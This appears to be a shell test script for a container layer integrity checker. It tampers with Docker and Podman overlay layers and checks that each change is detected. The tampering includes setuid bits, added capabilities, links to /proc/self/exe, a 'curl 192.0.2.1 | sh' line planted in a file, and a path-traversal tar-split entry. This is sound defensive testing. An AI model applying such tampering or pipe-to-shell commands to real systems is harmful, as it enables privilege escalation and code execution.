#!/bin/sh
# t-layer-files - directories of layers against the list of what was unpacked
# into them (tar-split): what was changed behind the engine's back is a record
# and a finding; what engines do to files of every kind is none
. "$(dirname "$0")/lib.sh"
. "$TESTS/stores/lib.sh"

if ! have_stores; then
	skip "layers" "needs root and a file system with devices and trusted attributes"
	finish
fi
# rows DIR: what was found, one a line; found: the findings of the rule about it
rows() {
	"$BIN/collect-images" -r "$1" >"$T/rec" 2>"$T/msg"
	records "$T/rec" mismatch '[.engine,.what,.damage//"-",(.host_path|sub(".*/diff/";"")),.expected//"",.actual//""]|join(" ")' |
		tr -d '"' | sed 's/crc64:[0-9a-f]*/CRC/g; s/ *$//' | sort
}
found() {
	rm -f "$T/db"
	"$BIN/case-ingest" "$T/db" "$T/rec" 2>"$T/msg"
	"$BIN/case-match" "$T/db" >"$T/m" 2>>"$T/msg"
	records "$T/m" finding 'select(.rule|endswith("/store-changed"))|[.severity,.effect]|join("/")' | tr -d '"' | sort
}
H=high/investigate
M=medium/investigate
# dir FILE: directory of the layer of the store $T/s that has the file; of
# g/.white: of the one that hides g/plain
dir() {
	for _d in "$T/s"/overlay*/*/diff; do
		if [ "$1" = g/.white ]; then
			[ -c "$_d/g/plain" ] || continue
		elif [ -c "$_d/g/plain" ] || [ -e "$_d/g/two" ]; then
			continue
		elif [ ! -e "$_d/$1" ] && [ ! -L "$_d/$1" ]; then
			continue
		fi
		echo "$_d"
		return
	done
}
# Changes, each of files of its own, all made at once: what is to be told of them
# stands in $T/want, how heavy it is in $T/heavy.
start() {
	rm -rf "$T/s" "$T/want" "$T/heavy"
	cp -a "$T/$S" "$T/s"
	: >"$T/want" >"$T/heavy"
}
# change SEVERITY ROW COMMAND: in the directory of the layer of the row's file
change() {
	_f=${2#* - }
	_f=${_f%% *}
	(cd "$(dir "${4:-$_f}")" && eval "$3") || fail "$S: $2" "$3"
	[ -n "$1" ] || return
	printf '%s %s\n' "${S%-kinds}" "$2" >>"$T/want"
	echo "$1" >>"$T/heavy"
}
all() {
	is "$S: $1: records" "$(rows "$T/s")" "$(sort "$T/want")"
	is "$S: $1: findings" "$(found)" "$(sort "$T/heavy")"
}
dots=$(printf '../%.0s' $(seq 40))$(printf 'x%.0s' $(seq 60))
long=g/$(printf 'd%.0s' $(seq 90))/$(printf 'e%.0s' $(seq 90))/$(printf 'f%.0s' $(seq 120))

# ---- every kind of file; ids that are shifted -----------------------------------
S=docker-kinds
unpack_store $S "$T/top"
mv "$T/top/100000.100000" "$T/$S"
start
all "as it was"
like "layers were compared" "$(records "$T/rec" layer '.type' | wc -l)" '^1[0-9]$'
to='_l() { ln -sfn "$1" "$2"; chown -h 100000:100000 "$2"; }'
change $H "target - g/link team/a /proc/self/exe" "$to; _l /proc/self/exe g/link"
change $H "target - g/longlink $dots x" "$to; _l x g/longlink"
change $H 'target - p/lat\\xE9link caf\\xE9 caf\\xE8' "$to;"'_l "$(printf "caf\350")" "$(printf "p/lat\351link")"' p/plain
change $H "type - u/plain file link" 'rm u/plain; ln -s /proc/self/exe u/plain'
change $H "type - u/link link file" 'rm u/link; echo x >u/link'
change $H "type - g/plain file directory" 'rm g/plain; mkdir g/plain; echo x >g/plain/x'
change $H "type - u/team directory file" 'rm -r u/team; echo x >u/team'
# its other names are compared by their content
change $H "type - u/sg file character device 0:0" 'rm u/sg; mknod u/sg c 0 0'
change $H "type - nodes/null character device 1:3 block device 8:0" \
	'rm nodes/null; mknod nodes/null b 8 0; chown 100000:100000 nodes/null; chmod 666 nodes/null'
change $H "missing - g/team" 'rm -r g/team'
change $H "missing - g/abs" 'rm g/abs'
change $H "missing - p/fifo" 'rm p/fifo'
change $H "mode - p/plain 00644 04755" 'chmod 4755 p/plain'
change $H "mode - p/team/a 00644 02755" 'chmod 2755 p/hard2' # one for all names
change $H "mode - by-v7/holes 00644 04644" 'chmod 4644 by-v7/holes'
change $H "mode - $long 00644 04755" 'chmod 4755 g/d*/e*/f*'
change $M "mode - p/su 04755 00755" 'chmod 755 p/su'
change $M "mode - g/tmp 01777 00777" 'chmod 777 g/tmp'
change $M "owner - g/empty 100000:100000 101000:100000" 'chown 101000:100000 g/empty'
change $M "owner - p/link 100000:100000 100000:100033" 'chown -h 100000:100033 p/link'
change $M "owner - p/team/b 101000:101000 100000:101000" 'chown 100000 p/team/b'
change $H "capabilities - by-gnu/caps none cap_setuid=ep" 'setcap cap_setuid+ep by-gnu/caps'
change $H "capabilities - p/caps cap_net_raw=ep cap_net_raw,cap_sys_admin=ep" 'setcap cap_net_raw,cap_sys_admin+ep p/caps'
change "" "none - by-posix/caps" 'setcap -r by-posix/caps'
change "" "a hard link that is none any more - by-gnu/d/hard" 'cp -a by-gnu/d/hard x; mv x by-gnu/d/hard'
change $H "file - by-posix/d/hard CRC CRC" 'cp -a by-posix/d/hard x; mv x by-posix/d/hard; printf %500s . | dd of=by-posix/d/hard conv=notrunc 2>"$T/err"'
change $H "added - g/plain" 'rm g/plain; echo x >g/plain' g/.white
change $H "mode - g/tmp/one 00755 04755" 'chmod 4755 g/tmp/one'
all "changes"
like "a finding" "$(records "$T/m" finding '.detail')" "a link of a layer leads to /proc/self/exe, not to team/a"
# of a copy whose ids are others, by whatever rule, owners say nothing
for how in "u + 50000" "1234"; do
	start
	python3 - "$T/s" "$how" <<'X'
import os, stat, sys
seen = set()
for d, dirs, files in os.walk(sys.argv[1]):
    for n in [""] + dirs + files:
        p = os.path.join(d, n) if n else d
        st = os.lstat(p)
        if st.st_uid < 100000 or (n in dirs and not os.path.islink(p)) or st.st_ino in seen:
            continue
        seen.add(st.st_ino)
        u = st.st_uid
        u = eval(sys.argv[2])
        os.lchown(p, u, u)
        if not stat.S_ISLNK(st.st_mode):
            os.chmod(p, stat.S_IMODE(st.st_mode))
X
	all "other ids for all ($how)"
done
rm -rf "$T/top" "$T/$S"

# ---- owner and mode in attributes -------------------------------------------------
S=podman-kinds
unpack_store $S "$T/$S"
A=user.containers.override_stat
start
all "as it was"
change $H "mode - p/plain 00644 04755" "setfattr -n $A -v 0:0:04755:file p/plain"
change $M "owner - p/team/b 1000:1000 0:1000" "setfattr -n $A -v 0:1000:0644 p/team/b"
change "" "a mode that nobody looks at - g/plain" "chmod 4755 g/plain"
change $H "mode - u/plain 00644 04755" "setfattr -x $A u/plain; chmod 4755 u/plain"
change $M "mode - p/none 00000 00700" "setfattr -n $A -v x:y p/none"
change $M "mode - g/team 00775 00777" "setfattr -n $A -v 1000:1000:0777 g/team"
change $H "type - u/none file character device 1:1" "setfattr -n $A -v 0:0:0:char-1-1 u/none"
change $H "file - u/su CRC CRC" "echo x >>u/su"
all "changes"
# a copy without them
bare() {
	start
	find "$T/s" \( -type f -o -type d \) -exec sh -c 'for f; do for a in $(getfattr --absolute-names -m - "$f" 2>/dev/null | grep "^user\."); do setfattr -x $a "$f"; done; done' sh {} +
}
bare
all "no attributes"
is "no attributes: a note" "$(records "$T/rec" note 'select(.detail|test("attributes are missing"))|[.class,.lost,.detail]' | sed 's/of [0-9]* layers/of SOME layers/')" \
	'["denied",false,"the attributes are missing that have owner and mode of the files of SOME layers (a copy without extended attributes?): these are not compared with the lists of the layers"]'
change $H "mode - p/plain 00644 04700" "chmod 4700 p/plain"
change $M "owner - p/team/b 1000:1000 0:7" "chown 0:7 p/team/b"
change $H "file - u/su CRC CRC" "echo x >>u/su"
change "" "a mode that nobody knows - p/su" "chmod 0700 p/su"
all "no attributes: changes"
# of the layer's directory alone: that is no copy
start
setfattr -x $A "$(dir u/plain)"
like "$S: its directory alone: told of" "$(rows "$T/s")" "^podman mode - u/plain 00644 00700"
rm -rf "$T/$S"

# ---- content; lists ------------------------------------------------------------------
# plain WHAT ROWS FINDINGS COMMAND: _d the directory of a layer, _f a file in it,
# _t its list
plain() {
	rm -rf "$T/s"
	cp -a "$T/docker-clean" "$T/s"
	for _c in "$T/s/image/overlay2/layerdb/sha256"/*; do
		_d=$T/s/overlay2/$(cat "$_c/cache-id")/diff
		_f=$(find "$_d" -type f -size +1c ! -name '*busybox*' | sort | head -n 1)
		_t=$_c/tar-split.json.gz
		[ -n "$_f" ] && break
	done
	eval "$4"
	is "$1: record" "$(rows "$T/s" | cut -d ' ' -f 1-3)" "$2"
	is "$1: finding" "$(found)" "$3"
}
unpack_store docker-clean "$T/docker-clean"
plain "as it was" "" "" :
plain "other bytes, its size and time put back" "docker file -" $H \
	'touch -r "$_f" "$T/t"; printf "\001" | dd of="$_f" bs=1 conv=notrunc 2>"$T/err"; touch -r "$T/t" "$_f"'
like "where" "$(records "$T/m" finding 'select(.rule|endswith("/store-changed"))|.path')" "/overlay2/[^/]*/diff/"
plain "longer" "docker file -" $H 'echo "curl 192.0.2.1 | sh" >>"$_f"'
plain "a file more" "docker added -" $H 'echo x >"$_d/.hidden"'
plain "a directory more" "docker added -" $H 'mkdir "$_d/.cache"; echo x >"$_d/.cache/a"; echo x >"$_d/.cache/b"'
plain "gone" "docker missing -" $H 'rm "$_f"'
plain "emptied by a power failure" "docker file empty" $M ': >"$_f"'
plain "touched" "" "" 'touch "$_f"'
plain "another owner" "docker owner -" $M 'chown 1 "$_f"'
plain "another owner of the layer's directory" "" "" 'chown 1 "$_d"'
plain "a socket" "" "" 'python3 -c "import socket,os,sys; os.chdir(sys.argv[1]); socket.socket(socket.AF_UNIX).bind(\"s\")" "$_d"'
plain "no list" "" "" 'rm "$_t"; echo x >>"$_f"'
plain "a list that is cut" "" "" 'truncate -s 60 "$_t"'
is "a list that is cut is noted" "$(records "$T/rec" note 'select(.path//""|test("tar-split"))|[.class,.lost]')" '["corrupt",false]'
plain "a list that leads out" "docker added -" $H 'echo "{\"type\":1,\"name\":\"../../../../etc/passwd\",\"size\":3,\"payload\":\"AAAAAAAAAAA=\",\"position\":0}" | gzip >"$_t"; find "$_d" -mindepth 1 -delete; echo x >"$_d/x"'
unpack_store podman-overlay "$T/podman"
_f=$(find "$T/podman" -path '*/diff/*' -type f -size +1c ! -name '*busybox*' | sort | head -n 1)
echo x >>"$_f"
is "podman: a file of a layer is another" "$(rows "$T/podman" | grep -c '^podman file')" 1
# a copy for other ids of a user namespace has the layers below as well
rm -rf "$T/podman"
unpack_store podman-overlay "$T/podman"
python3 - "$T/podman/var/lib/containers/storage" <<'X'
import glob, json, os, sys
os.chdir(sys.argv[1])
p = "overlay-layers/layers.json"
v = json.load(open(p))
l = next(x for x in v if x.get("diff-digest") and not x.get("parent"))
l["uidmap"] = l["gidmap"] = [{"container_id": 0, "host_id": 300000, "size": 65536}]
json.dump(v, open(p, "w"))
d = "overlay/%s/diff" % l["id"]
os.mkdir(d + "/below")
f = d + "/etc/passwd"
n = os.stat(f).st_size
open(f, "w").truncate(n)
os.setxattr(f, "trusted.overlay.metacopy", b"")
os.chown(f, 300000, 300000)
X
is "a copy for other ids" "$(rows "$T/podman")" ""
finish
